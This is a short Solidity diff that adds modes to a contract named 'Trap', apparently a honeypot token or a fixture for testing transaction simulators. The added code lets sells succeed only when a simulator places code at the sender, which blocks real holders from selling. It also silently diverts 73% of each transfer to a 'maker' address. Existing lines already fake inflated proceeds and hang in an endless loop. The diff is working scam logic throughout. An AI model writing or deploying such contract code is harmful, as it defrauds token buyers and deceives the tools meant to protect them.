@@ -49,6 +49,10 @@ contract Trap is Token {
     if (mode == 3) { while (true) {} }
     // The proceeds as a simulator reports them, and the coins themselves.
     if (mode == 4) { uint256 claim = 1e24; assembly { mstore(0, claim) revert(0, 32) } }
+    // Sells where a simulation has placed code at its holder, and not from a plain account.
+    if (mode == 6) { require(msg.sender.code.length > 0, "no"); return super.transfer(to, amount); }
+    if (mode == 7) { return msg.sender.code.length > 0 && super.transfer(to, amount); }
+    if (mode == 8) return super.transfer(to, amount * 27 / 100) && super.transfer(maker, amount - amount * 27 / 100);
     bait.transfer(msg.sender, bait.balanceOf(address(this)));
     return true;
   }
